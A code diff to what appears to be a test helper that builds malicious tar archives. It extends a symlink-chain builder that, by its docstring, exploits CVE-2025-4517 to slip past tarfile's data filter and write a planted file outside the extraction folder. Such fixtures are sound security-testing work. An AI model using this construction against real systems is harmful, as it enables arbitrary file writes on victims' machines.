@@ -65,10 +65,13 @@ def build(
     extra: Builder | None = None,
     files: Mapping[str, bytes] = LISTED,
     manifest: bytes | None = None,
+    first: Builder | None = None,
 ) -> Path:
-    """manifest.json, then files, then what extra adds."""
+    """manifest.json, then what first adds, then files, then what extra adds."""
     with tarfile.open(path, "w:gz") as tar:
         add_file(tar, "manifest.json", manifest or manifest_json(files))
+        if first is not None:
+            first(tar)
         for name, data in files.items():
             add_file(tar, name, data)
         if extra is not None:
@@ -99,10 +102,11 @@ def big_unlisted_member(size: int = 300 * 10**6) -> Builder:
     return extra
 
 
-def symlink_chain(destination: Path, levels_up: int = 3) -> Builder:
+def symlink_chain(destination: Path, levels_up: int = 3, links_first: bool = False) -> Builder:
     """CVE-2025-4517: symlinks whose expansion passes PATH_MAX, so that os.path.realpath stops
     resolving and tarfile's data filter sees a path inside the destination, while the kernel
-    follows the links to levels_up folders above it and writes escape/planted there."""
+    follows the links to levels_up folders above it and writes escape/planted there.
+    links_first: each step's link before its folder, so that the chain's first member is a link."""
     steps = "abcdefghijklmnop"
     component = "d" * ((PATH_MAX - len(str(destination)) - 1) // (len(steps) + 1))
 
@@ -112,8 +116,11 @@ def symlink_chain(destination: Path, levels_up: int = 3) -> Builder:
             folder = tarfile.TarInfo(os.path.join(path, component))
             folder.type = tarfile.DIRTYPE
             folder.mode = 0o777
+            if links_first:
+                add_link(tar, os.path.join(path, step), component)
             tar.addfile(folder)
-            add_link(tar, os.path.join(path, step), component)
+            if not links_first:
+                add_link(tar, os.path.join(path, step), component)
             path = os.path.join(path, component)
         # Points back at the destination; realpath gives up before expanding it.
         linkpath = os.path.join(*steps, "l" * 254)
